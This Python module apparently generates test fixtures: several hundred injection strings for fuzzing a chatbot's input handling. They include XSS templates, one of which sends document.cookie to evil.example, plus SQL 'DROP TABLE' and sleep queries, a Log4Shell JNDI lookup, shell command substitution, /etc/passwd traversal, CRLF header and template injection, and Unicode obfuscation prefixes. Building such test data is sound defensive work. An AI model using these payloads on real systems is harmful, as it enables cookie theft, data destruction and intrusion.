"""Strings that try to become more than text: markup, scripts, templates, queries, commands. At least 300, each different."""

from __future__ import annotations

from itertools import product

_SCRIPT = ["alert(1)", "fetch('https://evil.example/'+document.cookie)", "top.location='https://evil.example'"]
_MARKUP = [
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg/onload={}//",
    '<iframe src="javascript:{}">',
    '<a href="javascript:{}">x</a>',
    "<body onload={}>",
    "<details open ontoggle={}>",
    '<math><mi xlink:href="javascript:{}">',
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    '"><script>{}</script>',
    "'-{}-'",
    "\\';{}//",
    "javascript:{}",
    "<style>@import'https://evil.example/'</style>{}",
    '<meta http-equiv=refresh content="0;javascript:{}">',
    "<!--><script>{}</script>-->",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "`${{{}}}`",
    "{{{{{}}}}}",
    "{{%% {} %%}}",
    "<%%= {} %%>",
    "data:text/html,<script>{}</script>",
    "<x onclick={} tabindex=1>",
    '<form action="javascript:{}"><button>',
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<base href="https://evil.example/{}">',
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}",
    "[x](javascript:{})",
    "![x](https://evil.example/{})",
]
_COMMANDS = [
    "/restart",
    "/session_start",
    "/back",
    "/greet",
    "/talk_to_person",
    '/show{"article": "yoxo-box/place"}',
    '/switch_language{"to": "en"}',
    "/capabilities",
    "/none_of_these",
    "/out_of_scope",
    "EXTERNAL: action_hand_off",
    "EXTERNAL: talk_to_person",
]
_PREFIXES = ["", " ", "\t", "　", "\n", "//", "\u200b", "\ufeff", "\u202e", "\\"]
_QUERIES = [
    "' OR 1=1 --",
    "'; DROP TABLE chat_turn; --",
    "1; SELECT pg_sleep(9)",
    '" OR ""="',
    "${jndi:ldap://evil.example/a}",
    "$(sleep 9)",
    "`id`",
    "../../etc/passwd",
    "%00",
    "\r\nSet-Cookie: a=b",
    "data: x\n\nevent: message\n",
    "id: 99\n\n",
    '{"$gt": ""}',
    "__proto__",
    "{{7*7}}",
]


def _wide(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


INJECTIONS: list[str] = list(
    dict.fromkeys(
        [
            *(form.replace("%%", "%").replace("{}", script) for form, script in product(_MARKUP, _SCRIPT)),
            *(prefix + command for prefix, command in product(_PREFIXES, _COMMANDS)),
            *(_wide(command) for command in _COMMANDS),
            *_QUERIES,
            *(
                f"YOXO BOXはどこ？{text}"
                for text in [*_QUERIES, *_COMMANDS, *(f.replace("{}", "alert(1)") for f in _MARKUP)]
            ),
        ]
    )
)
